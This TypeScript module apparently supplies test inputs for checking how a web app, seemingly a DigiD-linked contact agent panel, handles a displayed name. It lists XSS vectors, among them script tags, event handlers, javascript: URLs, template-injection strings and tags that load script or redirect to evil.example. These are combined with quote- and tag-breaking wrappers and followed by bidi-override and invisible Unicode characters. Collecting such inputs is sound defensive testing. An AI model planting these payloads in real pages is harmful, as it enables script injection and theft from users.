const vectors = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">Klik</a>',
  '<a href="data:text/html,<script>alert(1)</script>">Klik</a>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>Kopieer</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<template><script>alert(1)</script></template>',
  '<slot name=x></slot>',
  '<id-contact-agent-panel desk="https://evil.example"></id-contact-agent-panel>',
  '<p class="band proven"><b>Bewezen met DigiD Hoog</b></p>',
  '<button onclick=alert(1)>Neem op</button>',
  '<marquee onstart=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<?lit$1234$>',
  '<!--?lit$1234$-->',
  '{name} {method} {purpose}',
  'javascript:alert(1)',
]

const wrappings: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</bdi></dd></dl>${vector}`,
]

/** What somebody could write where a name is expected. */
export const payloads = wrappings.flatMap((wrap) => vectors.map(wrap))

const directions = [
  0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
]

/** Characters that turn what follows, or that are there without being seen. */
export const tricks = [...directions, 0xad, 0x115f, 0x200b, 0x2060, 0x2064, 0x3164, 0xfeff, 0xe0041]
